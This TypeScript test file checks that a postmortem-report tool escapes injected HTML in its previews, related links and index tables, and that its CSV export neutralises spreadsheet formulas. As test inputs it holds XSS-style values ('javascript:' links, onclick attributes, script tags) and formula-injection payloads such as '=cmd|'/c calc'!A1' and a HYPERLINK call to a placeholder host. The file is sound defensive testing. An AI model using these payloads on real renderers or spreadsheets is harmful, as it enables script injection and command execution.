import assert from "node:assert/strict";
import type { Nodes } from "mdast";
import { toChunks } from "../server/src/core/chunks.ts";
import { csvText } from "../server/src/core/csv.ts";
import { relatedLink } from "../server/src/core/features/related-link.ts";
import { render } from "../server/src/core/features/render.ts";
import { indexBlocks } from "../server/src/core/index-page/index-blocks.ts";
import { indexColumns } from "../server/src/core/index-page/index-columns.ts";
import { indexUpdates } from "../server/src/core/index-page/update-index.ts";
import { parseTree } from "../server/src/core/markdown.ts";
import { defaultSettings } from "../server/src/core/settings.ts";
import { applyEdits } from "../server/src/core/text.ts";
import { examine } from "../server/src/workspace/examine.ts";
import { action, facts } from "./support/facts.ts";
import { htmlFaults } from "./support/injections/html-faults.ts";
import { injections } from "./support/injections/index.ts";

suite("a preview of what wants to be more than words", () => {
	for (const kind of new Set(injections.map((it) => it.kind))) {
		test(`makes nothing of it: ${kind}`, () => {
			for (const { name, text } of injections.filter((it) => it.kind === kind)) {
				assert.deepEqual(htmlFaults(shown(text)), [], name);
			}
		});
	}

	test("makes nothing of what related reports say", () => {
		const uris = ["file:///w/javascript:pwned(1).md", 'file:///w/"onclick="pwned(1).md'];
		const links = injections.flatMap(({ name }) => {
			const said = facts({ title: name, severity: name, services: [name] });
			const related = { facts: said, score: 1, shared: [name] };
			return uris.map((uri) => relatedLink("file:///w/report.md", { ...related, uri }, name));
		});
		assert.deepEqual(htmlFaults(shown("# Outage\n", links)), []);
	});

	test("is looked at with eyes that see", () => {
		const bad = ['<p onclick="a">', '<a href="java\tscript:a">', '<img src="data:,">'];
		assert.deepEqual(htmlFaults(bad.join("")), bad);
		assert.deepEqual(htmlFaults("<svg><style></style></svg>"), ["<svg>", "<style>"]);
		assert.deepEqual(htmlFaults('<b id="body">'), ["<b>", '<b id="body">']);
		assert.deepEqual(htmlFaults("<template><script>"), ["<template>", "<script>"]);
	});
});

suite("an index page of what wants to be more than words", () => {
	test("keeps it in its cells", () => {
		const columns = Object.keys(indexColumns);
		const opening = `<!-- postmortem-index columns="${columns.join(", ")}" -->`;
		const page = updated(`${opening}\n<!-- /postmortem-index -->\n`);
		const tree = parseTree(page);
		const [first, table, last] = tree.children;
		assert.deepEqual([tree.children.length, first?.type, last?.type], [3, "html", "html"]);
		assert(table?.type === "table");
		assert.equal(table.children.length, injections.length + 1);
		for (const row of table.children) assert.equal(row.children.length, columns.length);
		for (const node of nodesIn(table)) assert.ok(isPlain(node), JSON.stringify(node));
		assert.equal(updated(page), page);
	});
});

suite("CSV of what wants to be more than words", () => {
	const formulas = [
		'=HYPERLINK("https://loads.invalid/"&A1)',
		"=cmd|'/c calc'!A1",
		"+1+cmd|'/c calc'!A1",
		"-2+3",
		"@SUM(1+1)",
		"\t=1+1",
		"\r=1+1",
		"\n=1+1",
		"  =1+1",
		"\u0000=1+1",
		"\uFF1D1+1",
		"\uFF0B1",
		"\uFF0D1",
		"\uFF20SUM(1)",
	];
	for (const formula of formulas) {
		test(`is words to a spreadsheet: ${JSON.stringify(formula)}`, () => {
			const [cell] = csvText([[formula]]).split(/\r\n$/);
			assert.equal(cell, `"'${formula.replaceAll('"', '""')}"`);
		});
	}
});

/** As a report, whatever it looks like: with its findings. */
function shown(text: string, related: Parameters<typeof render>[2] = []): string {
	const scoped = { settings: defaultSettings, root: "file:///w" };
	const examined = examine(text, { uri: "file:///w/report.md", scoped, today: "2026-03-02" });
	return render(examined.report, examined.findings(), related);
}

/** With a row for each attempt, which stands wherever a report says something. */
function updated(text: string): string {
	const reports = injections.map(({ text: words, mark }) => {
		const said = { title: words, id: words, day: words, severity: words, status: words };
		const lists = { services: [words, words], tags: [words], causes: [words] };
		const whole = facts({ ...said, ...lists, template: words, actions: [action({ text: words })] });
		return { path: `${mark} ${words.slice(0, 80)}.md`, facts: whole };
	});
	const page = { text, chunks: toChunks(text) };
	assert.deepEqual(
		indexBlocks(page).flatMap(({ faults }) => faults),
		[],
	);
	const edits = indexUpdates(page, () => reports).map(({ edit }) => edit);
	return applyEdits(text, edits);
}

function* nodesIn(node: Nodes): Iterable<Nodes> {
	yield node;
	if ("children" in node) for (const child of node.children) yield* nodesIn(child);
}

/** Words and the link to the report are all that stands in a row. */
function isPlain(node: Nodes): boolean {
	if (node.type === "link") return !node.url.includes(":");
	return ["table", "tableRow", "tableCell", "text"].includes(node.type);
}
